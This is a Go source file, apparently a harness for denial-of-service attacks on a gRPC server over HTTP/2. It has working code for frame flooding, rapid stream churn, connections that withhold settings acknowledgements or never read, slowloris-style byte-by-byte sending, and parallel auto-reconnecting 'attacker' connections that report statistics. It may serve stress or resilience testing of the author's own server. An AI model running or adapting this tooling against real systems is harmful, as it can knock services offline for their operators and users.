package main

import (
	"bufio"
	"bytes"
	"encoding/binary"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"os"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

const (
	redirectPath   = "/loadBalancer.loadBalancer/Redirect"
	watchPath      = "/grpc.health.v1.Health/Watch"
	reflectionPath = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"

	defaultWindow = 65_535
	maxWindow     = 1<<31 - 1
	// reconnectPause is how long an attacker waits whose connection has been closed.
	reconnectPause = 20 * time.Millisecond
)

// What an attack has done so far; its process prints it now and then.
var stats struct {
	opened, closed, bytes, resets, failed atomic.Int64
}

type statsLine struct {
	Opened int64 `json:"opened"` // connections
	Closed int64 `json:"closed"` // by the server
	Failed int64 `json:"failed"` // connections that could not be made
	Bytes  int64 `json:"bytes"`  // sent
	Resets int64 `json:"resets"` // streams that the server has reset
}

func printStats() {
	out := json.NewEncoder(os.Stdout)
	for {
		_ = out.Encode(statsLine{stats.opened.Load(), stats.closed.Load(), stats.failed.Load(), stats.bytes.Load(),
			stats.resets.Load()})
		time.Sleep(100 * time.Millisecond)
	}
}

// conn is an attacker's HTTP/2 connection. Frames are written to a buffer by its Framer and then sent.
type conn struct {
	net.Conn
	*http2.Framer
	t       *target
	buffer  bytes.Buffer
	encoder *hpack.Encoder
	block   bytes.Buffer
	lastID  uint32

	mu     sync.Mutex
	change sync.Cond
	window int // the connection's, for what it sends
	ended  bool
}

// settings of a connection before its first call.
type settings struct {
	values []http2.Setting
	// neverAck leaves the server's settings without an acknowledgement.
	neverAck bool
	// unread leaves all that the server sends unread.
	unread bool
}

// dialTCP opens a bare connection.
func dialTCP(address string) (net.Conn, error) {
	c, err := net.DialTimeout("tcp", address, 5*time.Second)
	if err != nil {
		stats.failed.Add(1)
		return nil, err
	}
	stats.opened.Add(1)
	return c, nil
}

// dial opens a connection and sends the preface.
func dial(t *target, s settings) (*conn, error) {
	tcp, err := dialTCP(t.GRPC)
	if err != nil {
		return nil, err
	}
	if s.unread {
		_ = tcp.(*net.TCPConn).SetReadBuffer(4096)
	}
	return speak(t, tcp, s)
}

// speak sends the preface on a connection that is open, and reads from then on.
func speak(t *target, transport net.Conn, s settings) (*conn, error) {
	c := &conn{Conn: transport, t: t, lastID: ^uint32(0), window: defaultWindow}
	c.change.L = &c.mu
	c.Framer = http2.NewFramer(&c.buffer, nil)
	c.AllowIllegalWrites = true
	c.encoder = hpack.NewEncoder(&c.block)
	c.buffer.WriteString(http2.ClientPreface)
	must(c.WriteSettings(s.values...))
	must(c.WriteWindowUpdate(0, maxWindow-defaultWindow))
	if err := c.send(); err != nil {
		return nil, err
	}
	if !s.unread {
		go c.read(!s.neverAck)
	}
	return c, nil
}

// read takes what the server sends, and closes the connection when the server has.
func (c *conn) read(ack bool) {
	in := bufio.NewReaderSize(c.Conn, 1<<13) // thousands of connections have one each
	var head [9]byte
	for {
		if _, err := io.ReadFull(in, head[:]); err != nil {
			c.mu.Lock()
			c.ended = true
			c.change.Broadcast()
			c.mu.Unlock()
			_ = c.Conn.Close()
			return
		}
		length := int(head[0])<<16 | int(head[1])<<8 | int(head[2])
		id := binary.BigEndian.Uint32(head[5:])
		switch http2.FrameType(head[3]) {
		case http2.FrameSettings:
			if ack && head[4]&1 == 0 {
				_, _ = c.Conn.Write([]byte{0, 0, 0, byte(http2.FrameSettings), 1, 0, 0, 0, 0})
			}
		case http2.FrameRSTStream:
			stats.resets.Add(1)
		case http2.FrameWindowUpdate:
			var increment [4]byte
			if _, err := io.ReadFull(in, increment[:]); err == nil && id == 0 {
				c.mu.Lock()
				c.window += int(binary.BigEndian.Uint32(increment[:]))
				c.change.Broadcast()
				c.mu.Unlock()
			}
			continue
		}
		_, _ = in.Discard(length)
	}
}

// awaitWindow waits until so many bytes of data may be sent on the connection, and takes them.
func (c *conn) awaitWindow(bytes int) error {
	c.mu.Lock()
	defer c.mu.Unlock()
	for c.window < bytes {
		if c.ended {
			return net.ErrClosed
		}
		c.change.Wait()
	}
	c.window -= bytes
	return nil
}

// send sends the frames written since the last time.
func (c *conn) send() error {
	err := c.sendRaw(c.buffer.Bytes())
	c.buffer.Reset()
	return err
}

func (c *conn) sendRaw(data []byte) error {
	n, err := c.Conn.Write(data)
	stats.bytes.Add(int64(n))
	return err
}

// flood sends the same frames over and over until the connection ends.
func (c *conn) flood() error {
	frames := bytes.Clone(c.buffer.Bytes())
	for {
		if err := c.sendRaw(frames); err != nil {
			return err
		}
	}
}

// churn writes and sends frames over and over until the connection ends.
func (c *conn) churn(times int, write func()) error {
	for c.lastID < 1<<31-uint32(2*times)-1 || c.lastID == ^uint32(0) {
		for range times {
			write()
		}
		if err := c.send(); err != nil {
			return err
		}
	}
	return nil
}

// hold keeps the connection open until the server closes it.
func (c *conn) hold() error {
	c.mu.Lock()
	defer c.mu.Unlock()
	for !c.ended {
		c.change.Wait()
	}
	return net.ErrClosed
}

// fields returns the header block of a call; extra are names and values in turn, never indexed.
func (c *conn) fields(path string, extra ...string) []byte {
	c.block.Reset()
	for _, f := range [][2]string{
		{":method", "POST"}, {":scheme", "http"}, {":path", path}, {":authority", "localhost"},
		{"content-type", "application/grpc"}, {"te", "trailers"},
	} {
		must(c.encoder.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]}))
	}
	for i := 0; i+1 < len(extra); i += 2 {
		must(c.encoder.WriteField(hpack.HeaderField{Name: extra[i], Value: extra[i+1], Sensitive: true}))
	}
	return c.block.Bytes()
}

// nextID returns the number of a new stream.
func (c *conn) nextID() uint32 {
	c.lastID += 2
	return c.lastID
}

// begin writes the headers of a call, whose data is still to come, and returns its stream.
func (c *conn) begin(path string, extra ...string) uint32 {
	id := c.nextID()
	c.headers(id, false, c.fields(path, extra...))
	return id
}

// headers writes a block, in as many frames as it needs.
func (c *conn) headers(id uint32, end bool, block []byte) {
	const most = 16_384
	first := block[:min(len(block), most)]
	rest := block[len(first):]
	must(c.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: first, EndStream: end, EndHeaders: len(rest) == 0}))
	for len(rest) > 0 {
		part := rest[:min(len(rest), most)]
		rest = rest[len(part):]
		must(c.WriteContinuation(id, len(rest) == 0, part))
	}
}

// call writes a whole call.
func (c *conn) call(path string, message []byte, extra ...string) uint32 {
	id := c.begin(path, extra...)
	must(c.WriteData(id, true, message))
	return id
}

// framed puts gRPC's five bytes before a message.
func framed(message []byte) []byte {
	return append(binary.BigEndian.AppendUint32([]byte{0}, uint32(len(message))), message...)
}

// redirectRequest is the message that asks for a URL.
func redirectRequest(url string) []byte {
	return framed(append(binary.AppendUvarint([]byte{0x0a}, uint64(len(url))), url...))
}

var (
	exampleRequest = redirectRequest("http://s1.origin-cluster/video/123/xcg2djHckad.m3u8")
	watchRequest   = framed(nil)
	listServices   = framed([]byte{0x3a, 1, '*'})
)

// parallel runs a function so many times at once, and again whenever it returns, after a pause.
func parallel(times int, f func() error) {
	var all sync.WaitGroup
	for range times {
		all.Go(func() {
			for {
				_ = f()
				time.Sleep(reconnectPause)
			}
		})
	}
	all.Wait()
}

// each is an attack by so many connections, each of them replaced when the server has closed it.
func each(connections int, s settings, f func(*conn) error) func(*target) {
	return func(t *target) {
		parallel(connections, func() error {
			c, err := dial(t, s)
			if err != nil {
				return err
			}
			defer c.Conn.Close()
			return count(f(c))
		})
	}
}

// eachTCP is the same for connections that do not speak HTTP/2, or not yet.
func eachTCP(connections int, port string, f func(net.Conn) error) func(*target) {
	return func(t *target) {
		parallel(connections, func() error {
			c, err := dialTCP(t.address(port))
			if err != nil {
				return err
			}
			defer c.Close()
			return count(f(c))
		})
	}
}

// count counts a connection that has ended by an error, and so by the server.
func count(err error) error {
	if err != nil {
		stats.closed.Add(1)
	}
	return err
}

// untilClosed reads until the server closes the connection.
func untilClosed(c net.Conn) error {
	_, _ = io.Copy(io.Discard, c)
	return net.ErrClosed
}

// slowly sends data with a pause after each byte, and then waits for the end.
func slowly(c net.Conn, data []byte, pause time.Duration) error {
	closed := make(chan error, 1)
	go func() { closed <- untilClosed(c) }()
	for _, b := range data {
		if _, err := c.Write([]byte{b}); err != nil {
			return err
		}
		stats.bytes.Add(1)
		select {
		case err := <-closed:
			return err
		case <-time.After(pause):
		}
	}
	return <-closed
}

func must(err error) {
	if err != nil {
		panic(fmt.Sprintf("cannot be written: %v", err))
	}
}
